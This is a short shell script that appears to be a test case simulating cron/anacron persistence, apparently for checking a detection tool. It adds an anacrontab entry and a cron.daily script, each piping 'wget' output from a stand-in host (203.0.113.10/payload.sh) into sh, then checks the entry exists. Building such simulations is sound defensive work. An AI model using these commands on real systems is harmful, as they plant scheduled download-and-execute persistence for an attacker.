#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.daily /var/spool/anacron
printf '1\t2\tcron.sys\tnice wget -qO- http://203.0.113.10/payload.sh | sh\n' >>/etc/anacrontab
printf '#!/bin/sh\nwget -qO- http://203.0.113.10/payload.sh | sh\n' >/etc/cron.daily/0anacron.sys
chmod +x /etc/cron.daily/0anacron.sys
grep -q payload /etc/anacrontab
took_place
